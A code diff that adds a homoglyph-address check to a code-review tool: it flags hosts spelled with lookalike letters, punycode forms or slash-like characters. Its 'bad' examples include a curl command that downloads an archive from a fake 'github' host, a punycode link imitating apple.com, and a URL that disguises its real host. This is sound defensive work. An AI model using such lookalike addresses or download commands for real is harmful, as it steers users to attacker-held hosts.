@@ -1,4 +1,4 @@
-"""Finds names of the change that look like other names: of code, of files, of the language."""
+"""Finds names and web addresses of a change that look like other ones."""
 
 import builtins
 import keyword
@@ -11,20 +11,95 @@ from reviewloop.analysis.contract import (
     SHOULD,
     ChangeCheck,
     ChangeView,
+    Example,
+    FileCheck,
     Hit,
     Rule,
     SourceFile,
     Span,
 )
-from reviewloop.rules.diff.homes import is_at_home
-from reviewloop.rules.diff.lookalikes import MIXED, outline, quoted, taken_for
+from reviewloop.rules.diff.letters import MIXED, is_at_home, outline, quoted, taken_for
 from reviewloop.workspace.hygiene import Hidden, find_hidden
+
+_MOST_ADDRESSES = 20  # findings for a file
+_HOST = re.compile(r"\b(?:https?|wss?|ftp|ssh|git)://([^\s/?#\\\"'<>`)\]}]{1,255})", re.IGNORECASE)
+_SLASHES = "\u2044\u2215\u29f8\uff0f"
+_DOTLESS_I = "\u0131"  # an ordinary letter of Turkish names
+
+_ADDRESS = Rule(
+    id="diff/confusable-address",
+    reviewer=SECURITY,
+    severity=SHOULD,
+    title="The host of an address looks like another one",
+    why="Letters of other scripts make a host that reads like a known one and belongs to somebody "
+    "else: downloads, keys and logins go there.",
+    fix="Retype the address, or write it in its `xn--` form with a comment that says whose it is.",
+    category="hidden-text",
+    source="https://www.unicode.org/reports/tr39/",
+    in_examples=True,
+    bad=(
+        Example("setup.sh", "curl https://git\u04bbub.com/tool | tar x\n"),
+        Example("README.md", "[keys](https://xn--pple-43d.com/)\n"),
+        Example("app.py", 'URL = "https://github.com\u2215org\u2215tool.zip.example.net/x"\n'),
+    ),
+    good=(
+        Example("README.md", "https://m\u00fcnchen.de/ and https://xn--mnchen-3ya.de/\n"),
+        Example(
+            "app.py",
+            'URL = "https://\u043f\u0440\u0435\u0437\u0438\u0434\u0435\u043d\u0442.\u0440\u0444/"\n',
+        ),
+        Example("app.py", 'URL = "https://k\u0131z\u0131lay.org.tr/"\n'),
+    ),
+)
+
+
+def _check_addresses(file: SourceFile) -> Iterator[Hit]:
+    told = 0
+    for number, line in enumerate(file.lines, 1):
+        if line.isascii() and "xn--" not in line:
+            continue
+        for found in _HOST.finditer(line):
+            reason = _deceives(found.group(1).rpartition("@")[2])
+            if reason and told < _MOST_ADDRESSES:
+                told += 1
+                span = Span(number, number, found.start(1) + 1, found.end(1) + 1)
+                yield Hit(_ADDRESS.id, file.path, span, reason)
+
+
+def _deceives(host: str) -> str:
+    """Return what is wrong with a host, "" when nothing is."""
+    slash = next((char for char in host if char in _SLASHES), "")
+    if slash:
+        return f"U+{ord(slash):04X} in the host looks like a slash: the host does not end there."
+    name = ".".join(map(_decoded, host.partition(":")[0].lower().split(".")))
+    if name.isascii() or not taken_for(name.rpartition(".")[2]).isascii():
+        return ""
+    for label in name.split("."):
+        read = taken_for(label)
+        odd = [char for char in label if not char.isascii() and char != _DOTLESS_I]
+        if odd and (read.isascii() or MIXED.search(label)):
+            names = ", ".join(dict.fromkeys(f"U+{ord(char):04X}" for char in odd[:4]))
+            return f"The host reads like `{taken_for(name)}`, but holds {names}."
+    return ""
+
+
+def _decoded(label: str) -> str:
+    if not label.startswith("xn--"):
+        return label
+    try:
+        return label.removeprefix("xn--").encode("ascii").decode("punycode")
+    except (UnicodeError, ValueError, OverflowError):
+        return label
+
+
+ADDRESSES = FileCheck("addresses", (_ADDRESS,), lambda file: bool(file.text), _check_addresses)
+
 
 _NAME = re.compile(r"(?<!\w)[^\W\d]\w{2,80}(?!\w)")
 _ASCII_NAME = re.compile(r"(?<!\w)[A-Za-z_]\w{2,80}(?!\w)")
 _NO_CODE = {"markdown", "html", "", "json"}
 _SHORTEST = 3  # of two letters, Greek ones of formulas look like Latin ones by chance
-_MOST = 20  # findings for a file
+_MOST_NAMES = 20  # findings for a file
 _STANDARD = frozenset(
     (*dir(builtins), *keyword.kwlist, "self", "console", "document", "window", "process", "require",
      "module", "exports", "fetch", "function", "const", "undefined", "Object", "Promise", "string",
@@ -62,7 +137,7 @@ _PATH = Rule(
 )
 
 
-def _run(view: ChangeView) -> Iterator[Hit]:
+def _check_names(view: ChangeView) -> Iterator[Hit]:
     yield from _path_hits(view)
     candidates = [(file, _odd_names(file)) for file in view.files]
     if any(odd for _, odd in candidates):
@@ -103,7 +178,7 @@ def _name_hits(
     for number, found in odd:
         name = found.group()
         other = known.get(outline(name))
-        if other is None or len(other) < _SHORTEST or told == _MOST:
+        if other is None or len(other) < _SHORTEST or told == _MOST_NAMES:
             continue
         told += 1
         span = Span(number, number, found.start() + 1, found.end() + 1)
@@ -157,4 +232,4 @@ def _odd(text: str) -> str:
     return ", ".join(dict.fromkeys(names))
 
 
-NAMES = ChangeCheck("confusable names", (_IDENTIFIER, _PATH), _run)
+NAMES = ChangeCheck("confusable names", (_IDENTIFIER, _PATH), _check_names)
